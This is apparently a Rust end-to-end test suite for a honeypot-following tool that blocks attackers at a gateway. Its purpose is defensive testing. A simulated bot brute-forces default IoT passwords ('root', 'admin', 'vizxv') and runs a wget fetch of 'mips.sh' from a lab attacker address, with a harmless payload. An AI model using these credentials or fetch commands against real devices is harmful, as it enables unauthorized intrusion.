//! The honeypot, end to end.
//!
//! - The shared real Cowrie log (an internet honeypot, 2018) replays through
//!   `suriguardctl honeypot follow --once` to exact decisions, the same twice, with home
//!   and allowlisted visitors kept to alerts.
//! - `follow` as a daemon: it resumes after SIGKILL where it stopped, reads the end of a
//!   rotated file, and decides every visitor exactly once.
//! - Real Cowrie (PyPI, installed by `honeypot/install.sh` with the camera persona) in a
//!   home namespace, `follow` and nftables on the gateway, a bot in an attacker namespace
//!   (paramiko: parallel password guesses, the factory password, `uname -a`, `wget`):
//!   blocked within 2 s of its first attempt, its next connection fails, the decision
//!   lists its passwords and commands, and a benign client still reaches the home network.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use suriguard_e2e::netns::{wait_for, Lab};
use suriguard_e2e::{append, bin, ctl, json, shared_data, workspace_root, Ran};

fn cowrie_log() -> PathBuf {
    shared_data().join("cowrie/cowrie.json.2018-05-06")
}

fn config(dir: &Path, extra: &str) -> PathBuf {
    let p = dir.join("suriguard.toml");
    std::fs::write(
        &p,
        format!(
            "state-dir = {:?}\n[network]\nhome-networks = [\"192.168.1.0/24\"{extra}]\n[enforce]\nbackend = \"none\"\n",
            dir.join("state").display().to_string()
        ),
    )
    .unwrap();
    p
}

fn journal(dir: &Path) -> Vec<Value> {
    std::fs::read_to_string(dir.join("state/decisions.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn the_real_cowrie_log_replays_to_exact_decisions_twice_alike() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path(), "");
    let log = cowrie_log().display().to_string();
    let args = [
        "-o",
        "json",
        "honeypot",
        "follow",
        "--once",
        "--cowrie-log",
        &log,
    ];
    let first = json(ctl(&cfg, &args, &[]).assert_success());
    let ds = first["decisions"].as_array().unwrap();
    // 19 sources connected; 3 of them tried to log in (2 failed, 1 succeeded as
    // root/password): those 3 are decided, the others only connected.
    let got: BTreeMap<&str, (&str, &str)> = ds
        .iter()
        .map(|d| {
            (
                d["target"].as_str().unwrap(),
                (d["action"].as_str().unwrap(), d["reason"].as_str().unwrap()),
            )
        })
        .collect();
    assert_eq!(
        got,
        BTreeMap::from([
            ("137.74.171.123", ("block", "honeypot")),
            ("139.162.122.110", ("block", "honeypot")),
            ("88.223.26.58", ("block", "honeypot")),
        ]),
        "{first:#}"
    );
    assert_eq!(first["lines"], 211);
    assert_eq!(first["skipped"], 0);
    let root = ds.iter().find(|d| d["target"] == "88.223.26.58").unwrap();
    let hp = &root["evidence"]["honeypot"];
    assert_eq!(
        hp["logins"],
        serde_json::json!([{"username": "root", "password": "password", "success": true}])
    );
    assert_eq!(hp["protocol"], "ssh");
    assert_eq!(hp["honeypot"], "172.17.0.3:2222");
    assert_eq!(
        root["time"], "2018-05-06T17:44:51.165980Z",
        "decided at Cowrie's time"
    );
    assert_eq!(
        journal(dir.path()).len(),
        3,
        "journaled for `suriguardctl run`"
    );

    // The same log again (another state dir): the same decisions, ids included.
    let dir2 = tempfile::tempdir().unwrap();
    let again = json(ctl(&config(dir2.path(), ""), &args, &[]).assert_success());
    assert_eq!(again["decisions"], first["decisions"]);

    // A home address and an allowlisted one only get alerts.
    let dir3 = tempfile::tempdir().unwrap();
    let cfg3 = config(dir3.path(), ", \"88.223.26.0/24\"");
    std::fs::create_dir_all(dir3.path().join("state")).unwrap();
    std::fs::write(dir3.path().join("state/allowlist.txt"), "137.74.171.123\n").unwrap();
    let kept = json(ctl(&cfg3, &args, &[]).assert_success());
    let actions: BTreeMap<&str, &str> = kept["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| (d["target"].as_str().unwrap(), d["action"].as_str().unwrap()))
        .collect();
    assert_eq!(actions["88.223.26.58"], "alert-only", "{kept:#}");
    assert_eq!(actions["137.74.171.123"], "alert-only", "{kept:#}");
    assert_eq!(actions["139.162.122.110"], "block");
    let allow = kept["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["target"] == "137.74.171.123")
        .unwrap();
    assert!(
        allow["evidence"]["detail"]
            .as_str()
            .unwrap()
            .contains("not blocked: allowlisted"),
        "{allow:#}"
    );
}

/// `decisions explain` after logrotate moved the journal aside: the previous generation
/// is read, also before the next decision makes a new journal.
#[test]
fn explain_reads_the_journal_logrotate_moved_aside() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path(), "");
    let log = cowrie_log().display().to_string();
    ctl(
        &cfg,
        &["honeypot", "follow", "--once", "--cowrie-log", &log],
        &[],
    )
    .assert_success();
    let all = journal(dir.path());
    assert!(all.len() >= 2, "{all:?}");
    let path = dir.path().join("state/decisions.jsonl");
    let moved = dir.path().join("state/decisions.jsonl.1");
    let explain = |what: &str| ctl(&cfg, &["decisions", "explain", what, "-o", "json"], &[]);
    let (first, last) = (&all[0], &all[all.len() - 1]);
    // Rotated with nocreate: no journal at the path until the next decision.
    std::fs::rename(&path, &moved).unwrap();
    let r = explain(first["id"].as_str().unwrap());
    r.assert_success();
    assert_eq!(json(&r)[0]["target"], first["target"], "{r}");
    // The next decision started a new journal: both generations are read, oldest first.
    let text = std::fs::read_to_string(&moved).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    std::fs::write(&moved, lines[..lines.len() - 1].join("\n") + "\n").unwrap();
    std::fs::write(&path, lines[lines.len() - 1].to_owned() + "\n").unwrap();
    for d in [first, last] {
        let r = explain(d["target"].as_str().unwrap());
        r.assert_success();
        assert_eq!(json(&r)[0]["id"], d["id"], "{r}");
    }
    // Neither generation names it: the error says where else to look.
    let r = explain("198.51.100.250");
    assert_eq!(r.output.status.code(), Some(1), "{r}");
    assert!(r.stderr().contains("decisions.jsonl.1"), "{r}");
}

/// A Cowrie event line.
fn event(id: &str, src: &str, extra: &str) -> String {
    let now = suriguard_decision::rfc3339(suriguard_eve::EveTime(
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_micros() as i64,
    ));
    format!(
        r#"{{"eventid":"{id}","src_ip":"{src}","timestamp":"{now}","session":"s-{src}","protocol":"telnet","sensor":"cam","dst_ip":"192.168.1.5","dst_port":2323{extra}}}"#
    ) + "\n"
}

fn visit(path: &Path, src: &str) {
    append(path, &event("cowrie.session.connect", src, ""));
    append(
        path,
        &event(
            "cowrie.login.failed",
            src,
            r#","username":"admin","password":"admin""#,
        ),
    );
}

fn start_follow(cfg: &Path, log: &Path, out: &Path) -> Child {
    Command::new(bin("suriguardctl"))
        .arg("--config")
        .arg(cfg)
        .args(["honeypot", "follow", "--cowrie-log"])
        .arg(log)
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(out).unwrap())
        .spawn()
        .unwrap()
}

fn decided(dir: &Path, src: &str) -> usize {
    journal(dir).iter().filter(|d| d["target"] == src).count()
}

#[test]
fn follow_resumes_after_a_kill_and_reads_through_rotation() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path(), "");
    let log = dir.path().join("cowrie.json");
    // History written before the first start is not acted on.
    visit(&log, "198.51.100.1");
    let err = dir.path().join("follow.log");
    let mut f = start_follow(&cfg, &log, &err);
    std::thread::sleep(Duration::from_millis(500));
    visit(&log, "198.51.100.2");
    assert!(
        wait_for(Duration::from_secs(5), || decided(
            dir.path(),
            "198.51.100.2"
        ) == 1)
        .is_some(),
        "{}",
        std::fs::read_to_string(&err).unwrap()
    );
    // Killed: what arrives meanwhile is read on the next start, from the saved place.
    f.kill().unwrap();
    f.wait().unwrap();
    visit(&log, "198.51.100.3");
    let mut f = start_follow(&cfg, &log, &err);
    assert!(
        wait_for(Duration::from_secs(5), || decided(
            dir.path(),
            "198.51.100.3"
        ) == 1)
        .is_some(),
        "{}",
        std::fs::read_to_string(&err).unwrap()
    );
    // Rotation as Cowrie does it: the file is renamed, a new one is started. The last
    // lines of the old file and the first of the new one are both read.
    visit(&log, "198.51.100.4");
    let rotated = dir.path().join("cowrie.json.2026-12-07");
    std::fs::rename(&log, &rotated).unwrap();
    visit(&log, "198.51.100.5");
    assert!(
        wait_for(Duration::from_secs(5), || decided(
            dir.path(),
            "198.51.100.4"
        ) == 1
            && decided(dir.path(), "198.51.100.5") == 1)
        .is_some(),
        "{}",
        std::fs::read_to_string(&err).unwrap()
    );
    // Killed across a rotation: it finishes the rotated file (found by inode) first.
    f.kill().unwrap();
    f.wait().unwrap();
    visit(&log, "198.51.100.6");
    std::fs::rename(&log, dir.path().join("cowrie.json.2026-12-08")).unwrap();
    visit(&log, "198.51.100.7");
    let mut f = start_follow(&cfg, &log, &err);
    assert!(
        wait_for(Duration::from_secs(5), || decided(
            dir.path(),
            "198.51.100.6"
        ) == 1
            && decided(dir.path(), "198.51.100.7") == 1)
        .is_some(),
        "{}",
        std::fs::read_to_string(&err).unwrap()
    );
    std::thread::sleep(Duration::from_millis(800));
    f.kill().unwrap();
    f.wait().unwrap();
    let all: Vec<String> = journal(dir.path())
        .iter()
        .map(|d| d["target"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        all,
        [
            "198.51.100.2",
            "198.51.100.3",
            "198.51.100.4",
            "198.51.100.5",
            "198.51.100.6",
            "198.51.100.7"
        ],
        "each visitor once, history before the first start skipped"
    );
}

#[test]
fn follow_decides_visitors_still_gathering_when_stopped_by_sigterm() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = config(dir.path(), "");
    // A long gather window: without the clean stop the visitor below would still be
    // gathering when the follower ends, and the saved place is already past their lines.
    append(&cfg, "[honeypot]\ngather = 30\n");
    let log = dir.path().join("cowrie.json");
    std::fs::write(&log, "").unwrap();
    let err = dir.path().join("follow.log");
    let mut f = start_follow(&cfg, &log, &err);
    std::thread::sleep(Duration::from_millis(500));
    let written = {
        visit(&log, "198.51.100.9");
        std::fs::metadata(&log).unwrap().len()
    };
    let position = dir.path().join("state/honeypot-position.json");
    let read_through = || {
        std::fs::read(&position)
            .ok()
            .and_then(|b| serde_json::from_slice::<Value>(&b).ok())
            .is_some_and(|p| p["offset"].as_u64() == Some(written))
    };
    assert!(
        wait_for(Duration::from_secs(5), read_through).is_some(),
        "the follower never read the visit\n{}",
        std::fs::read_to_string(&err).unwrap()
    );
    assert_eq!(decided(dir.path(), "198.51.100.9"), 0, "still gathering");
    let stopped = Command::new("kill")
        .args(["-TERM", &f.id().to_string()])
        .status()
        .unwrap();
    assert!(stopped.success());
    let mut status = None;
    wait_for(Duration::from_secs(5), || {
        status = f.try_wait().unwrap();
        status.is_some()
    });
    let status = status.expect("the follower did not stop within 5 s of SIGTERM");
    let log_text = std::fs::read_to_string(&err).unwrap();
    assert!(status.success(), "{status:?}\n{log_text}");
    assert_eq!(
        decided(dir.path(), "198.51.100.9"),
        1,
        "decided on the way out\n{log_text}"
    );
    // The next start reads nothing again and decides nothing twice.
    let mut f = start_follow(&cfg, &log, &err);
    std::thread::sleep(Duration::from_millis(800));
    f.kill().unwrap();
    f.wait().unwrap();
    assert_eq!(decided(dir.path(), "198.51.100.9"), 1);
}

/// Installs the camera persona with `honeypot/install.sh` into `root` (the virtualenv
/// cached in /var/cache/suriguard/cowrie-venv), Cowrie running as `sgcowrie`.
fn install_honeypot(root: &Path) {
    let mut c = Command::new(workspace_root().join("honeypot/install.sh"));
    c.arg("--root")
        .arg(root)
        .args([
            "--user",
            "sgcowrie",
            "--ssh-port",
            "2222",
            "--telnet-port",
            "2323",
        ])
        .env("SURIGUARD_COWRIE_VENV", "/var/cache/suriguard/cowrie-venv");
    Ran::run(c, &workspace_root()).assert_success();
}

#[test]
fn real_cowrie_visitors_are_blocked_at_the_gateway_within_two_seconds() {
    let tmp = tempfile::Builder::new()
        .prefix("sghoney")
        .tempdir_in("/var/tmp")
        .unwrap();
    // Cowrie's user must reach its folder.
    std::fs::set_permissions(
        tmp.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let hp = tmp.path().join("honeypot");
    install_honeypot(&hp);

    // home (honeypot 192.168.60.10) — gw — attacker (a routable address: Cowrie's wget
    // refuses private ones) and a benign client elsewhere.
    let mut lab = Lab::new();
    let home = lab.ns("home");
    let gw = lab.ns("gw");
    let bad = lab.ns("bad");
    let good = lab.ns("good");
    lab.link(
        &home,
        "eth0",
        &["192.168.60.10/24"],
        &gw,
        "lan0",
        &["192.168.60.1/24"],
    );
    lab.link(
        &bad,
        "eth0",
        &["45.95.147.10/24"],
        &gw,
        "wan0",
        &["45.95.147.1/24"],
    );
    lab.link(
        &good,
        "eth0",
        &["81.2.69.20/24"],
        &gw,
        "wan1",
        &["81.2.69.1/24"],
    );
    lab.sh(&home, "ip route add default via 192.168.60.1");
    lab.sh(&bad, "ip route add default via 45.95.147.1");
    lab.sh(&good, "ip route add default via 81.2.69.1");
    lab.sh(&gw, "sysctl -qw net.ipv4.ip_forward=1");

    // Real Cowrie in the home namespace, as its own user.
    let cowrie_out = tmp.path().join("cowrie.out");
    let out = std::fs::File::create(&cowrie_out).unwrap();
    let mut cowrie = Command::new("ip")
        // setpriv and env exec, so the child is twistd itself and dies with the test.
        .args([
            "netns",
            "exec",
            &home,
            "setpriv",
            "--reuid=sgcowrie",
            "--regid=sgcowrie",
            "--init-groups",
        ])
        .args(["env", "PYTHONDONTWRITEBYTECODE=1"])
        .arg("/var/cache/suriguard/cowrie-venv/bin/twistd")
        .args([
            "-n",
            "--umask=0022",
            "--pidfile=",
            "--logger",
            "cowrie.python.logfile.stdoutLogger",
            "cowrie",
        ])
        .current_dir(&hp)
        .stdout(out.try_clone().unwrap())
        .stderr(out)
        .spawn()
        .unwrap();
    struct Kill<'a>(&'a mut Child);
    impl Drop for Kill<'_> {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let _cowrie = Kill(&mut cowrie);
    assert!(
        wait_for(Duration::from_secs(20), || lab.tcp_connects(
            &good,
            "192.168.60.10",
            2222,
            0.5
        ))
        .is_some(),
        "Cowrie did not start:\n{}",
        std::fs::read_to_string(&cowrie_out).unwrap_or_default()
    );

    // suriguard on the gateway: nftables there, following Cowrie's log.
    let state = tmp.path().join("state");
    let cfg = tmp.path().join("suriguard.toml");
    let log = hp.join("var/log/cowrie/cowrie.json");
    std::fs::write(
        &cfg,
        format!(
            "state-dir = {:?}\n[network]\nhome-networks = [\"192.168.60.0/24\"]\nown-addresses = [\"192.168.60.1\", \"45.95.147.1\", \"81.2.69.1\"]\n[honeypot]\ncowrie-log = {:?}\n",
            state.display().to_string(),
            log.display().to_string()
        ),
    )
    .unwrap();
    let follow_out = tmp.path().join("follow.out");
    lab.spawn(
        &gw,
        &bin("suriguardctl").display().to_string(),
        &[
            "--config",
            &cfg.display().to_string(),
            "-o",
            "json",
            "honeypot",
            "follow",
        ],
        &follow_out,
    );
    std::thread::sleep(Duration::from_millis(800));

    // The bot's payload server, in its own namespace.
    let www = tmp.path().join("www");
    std::fs::create_dir(&www).unwrap();
    std::fs::write(www.join("mips.sh"), "#!/bin/sh\necho bot\n").unwrap();
    lab.spawn(
        &bad,
        "python3",
        &[
            "-m",
            "http.server",
            "8000",
            "--bind",
            "45.95.147.10",
            "--directory",
            &www.display().to_string(),
        ],
        &tmp.path().join("www.log"),
    );
    std::thread::sleep(Duration::from_millis(500));

    let bot_log = tmp.path().join("bot.out");
    let start = Instant::now();
    lab.spawn(
        &bad,
        "timeout",
        &[
            "20",
            "/usr/bin/python3",
            &workspace_root()
                .join("tests/data/honeypot/bot.py")
                .display()
                .to_string(),
            "192.168.60.10",
            "2222",
            "http://45.95.147.10:8000/mips.sh",
        ],
        &bot_log,
    );
    let blocked_after = wait_for(Duration::from_secs(5), || {
        String::from_utf8_lossy(
            &lab.try_sh(&gw, "nft list set inet suriguard sg_block4")
                .stdout,
        )
        .contains("45.95.147.10")
    })
    .map(|_| start.elapsed());
    let bot_out = std::fs::read_to_string(&bot_log).unwrap_or_default();
    let follow_text = std::fs::read_to_string(&follow_out).unwrap_or_default();
    let blocked_after = blocked_after.unwrap_or_else(|| {
        panic!(
            "not blocked.\nbot:\n{bot_out}\nfollow:\n{follow_text}\ncowrie:\n{}",
            std::fs::read_to_string(&log).unwrap_or_default()
        )
    });
    assert!(
        blocked_after <= Duration::from_secs(2),
        "blocked {blocked_after:?} after the bot started (goal: 2 s after its first attempt)\nbot:\n{bot_out}\nfollow:\n{follow_text}"
    );
    assert!(
        bot_out.contains("Linux ipcam-4k 3.18.20"),
        "the persona answered: {bot_out}"
    );

    // Further connections fail; the benign client still gets in.
    assert!(
        !lab.tcp_connects(&bad, "192.168.60.10", 2222, 1.0),
        "the bot still connects"
    );
    assert!(
        lab.tcp_connects(&good, "192.168.60.10", 2222, 1.0),
        "the benign client is cut off"
    );

    // The decision, explained: every password tried, the commands.
    let ds = journal_at(&state);
    let d = ds
        .iter()
        .find(|d| d["target"] == "45.95.147.10")
        .unwrap_or_else(|| panic!("no decision: {ds:#?}"));
    assert_eq!(d["reason"], "honeypot");
    assert_eq!(d["action"], "block");
    let hp_ev = &d["evidence"]["honeypot"];
    let passwords: Vec<&str> = hp_ev["logins"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["password"].as_str().unwrap())
        .collect();
    for pw in ["root", "123456", "admin", "vizxv"] {
        assert!(passwords.contains(&pw), "{pw} missing: {d:#}");
    }
    let commands: Vec<&str> = hp_ev["commands"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    assert!(commands.contains(&"uname -a"), "{d:#}");
    assert!(
        commands
            .iter()
            .any(|c| c.starts_with("wget http://45.95.147.10:8000/mips.sh")),
        "{d:#}"
    );
    assert_eq!(
        ds.iter().filter(|d| d["target"] == "45.95.147.10").count(),
        1
    );
    eprintln!(
        "honeypot: 45.95.147.10 blocked {:.0} ms after its first attempt; {} logins, commands {commands:?}, downloads {}",
        blocked_after.as_secs_f64() * 1000.0,
        passwords.len(),
        hp_ev["downloads"]
    );
}

fn journal_at(state: &Path) -> Vec<Value> {
    std::fs::read_to_string(state.join("decisions.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}
